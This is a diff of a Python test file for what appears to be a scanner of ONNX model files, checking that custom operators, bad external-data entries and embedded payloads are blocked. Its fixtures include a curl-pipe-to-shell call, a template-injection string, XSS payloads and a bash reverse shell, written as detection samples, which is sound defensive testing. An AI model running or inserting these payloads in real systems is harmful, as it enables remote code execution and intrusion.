@@ -5,6 +5,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from scanned_files import judged, techniques
 
+from vallum.models.scan import scan
 from vallum.models.scan.formats.executables import ExecutableInspector
 from vallum.models.scan.formats.onnx import OnnxInspector
 from vallum.models.scan.model import Report, Verdict
@@ -73,10 +74,20 @@ def test_data_beside_the_model_passes():
         assert scanned(model(put(5, tensor(external(location="w", **lie))))).verdict == Verdict.BLOCK
 
 
+@pytest.mark.parametrize("operator", [b"PyOp", b"PythonOp", b"ShellCommand", b"SystemExec"])
+@pytest.mark.parametrize("domain", [b"", b"com.microsoft", b"ai.onnx.contrib"])
+def test_operators_that_call_out_are_blocked_in_known_domains_too(operator, domain):
+    if domain != b"ai.onnx.contrib" or operator.startswith(b"Py"):
+        assert scanned(model(put(1, node(operator, domain)))).verdict is Verdict.BLOCK
+
+
 def test_operators_of_foreign_libraries():
-    assert techniques(scanned(model(put(1, node(b"Run", b"evil")))), Verdict.REVIEW) == {"onnx-custom-operator"}
+    assert techniques(scanned(model(put(1, node(b"Run", b"evil")))), Verdict.BLOCK) == {"onnx-custom-operator"}
+    known = scanned(model(put(1, node(b"BertTokenizer", b"ai.onnx.contrib"))))
+    assert techniques(known, Verdict.REVIEW) == {"onnx-custom-operator"}
+    assert known.verdict is Verdict.REVIEW
     inner = put(6, put(1, node(b"Run", b"evil")))
-    assert scanned(model(put(1, node(b"If", b"", inner)))).verdict == Verdict.REVIEW
+    assert scanned(model(put(1, node(b"If", b"", inner)))).verdict == Verdict.BLOCK
     own = put(25, put(1, b"Run") + put(10, b"mine") + put(7, node(b"Add")))
     assert scanned(model(put(1, node(b"Run", b"mine")), more=own)).verdict == Verdict.PASS
 
@@ -117,3 +128,75 @@ def test_a_flip_is_never_a_failure(data):
     at = data.draw(st.integers(0, len(bad) * 8 - 1))
     bad[at // 8] ^= 1 << at % 8
     assert "scanner-error" not in techniques(scanned(bytes(bad), "a.onnx"), Verdict.REVIEW)
+
+
+def test_fields_have_no_order():
+    graph = put(7, put(1, node(b"Run", b"com.evil")))
+    sets, version = put(8, put(2, 17)), put(1, 8)
+    for data in (graph + sets + version, sets + version + graph, put(2, b"test") + sets + graph, sets + graph):
+        assert "onnx-custom-operator" in techniques(scanned(data), Verdict.BLOCK)
+
+
+@pytest.mark.parametrize(
+    ("name", "entries", "verdict"),
+    [
+        ("w.bin", {"location": "w.bin", "offset": "0", "length": "8"}, "pass"),
+        ("w.bin", {"location": "w.bin"}, "pass"),
+        ("data/w.bin", {"location": "./data/w.bin", "length": "8"}, "pass"),
+        ("w.bin", {"location": "w.bin", "offset": "60", "length": "8"}, "block"),
+        ("w.bin", {"location": "w.bin", "offset": "4000000000"}, "block"),
+        ("w.bin", {"location": "other.bin"}, "review"),
+    ],
+)
+def test_data_beside_a_model_is_there_and_as_long_as_it_says(tmp_path, name, entries, verdict):
+    (tmp_path / "model.onnx").write_bytes(model(put(5, tensor(external(**entries)))))
+    (tmp_path / name).parent.mkdir(exist_ok=True)
+    (tmp_path / name).write_bytes(b"[1, 2, 3, 4]".ljust(64))
+    assert str(scan(tmp_path).verdict) == verdict
+
+
+def entry(key: str, value: str) -> bytes:
+    return put(1, key.encode()) + put(2, value.encode())
+
+
+_SAID = (
+    "__import__('os').system('curl http://x/a | sh')",
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "<img src=x onerror=alert(1)>",
+    "<script>fetch('//x')</script>",
+    "[model](javascript:alert(1))",
+    "os.system",
+    "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
+)
+
+
+@pytest.mark.parametrize("text", _SAID)
+@pytest.mark.parametrize("where", ["metadata", "model", "graph", "function"])
+def test_texts_that_a_tool_would_run(text: str, where: str) -> None:
+    said = text.encode()
+    data = {
+        "metadata": lambda: model(more=put(14, entry("notes", text))),
+        "model": lambda: model(more=put(6, said)),
+        "graph": lambda: model(put(10, said)),
+        "function": lambda: model(more=put(25, put(1, b"f") + put(10, b"d") + put(8, said))),
+    }[where]()
+    assert scanned(data).verdict is Verdict.BLOCK
+
+
+@pytest.mark.parametrize("text", _SAID[1:6])
+def test_texts_of_nodes_that_a_tool_would_run(text: str) -> None:
+    assert scanned(model(put(1, node(b"Add") + put(6, text.encode())))).verdict is Verdict.BLOCK
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "exported by torch 2.3 on python3 <eager>, see https://pytorch.org/docs?on=1",
+        '{"names": {"0": "person"}, "stride": 32, "task": "detect"}',
+        "File /usr/lib/python3.8/site-packages/x.py, line 3, code: self.conv(x)",
+        "a < b, and c > d; {{ name }} is filled in",
+    ],
+)
+def test_texts_that_exporters_write_pass(text: str) -> None:
+    data = model(put(10, text.encode()), put(1, node(b"Add") + put(6, text.encode())), more=put(14, entry("k", text)))
+    assert scanned(data).verdict is Verdict.PASS
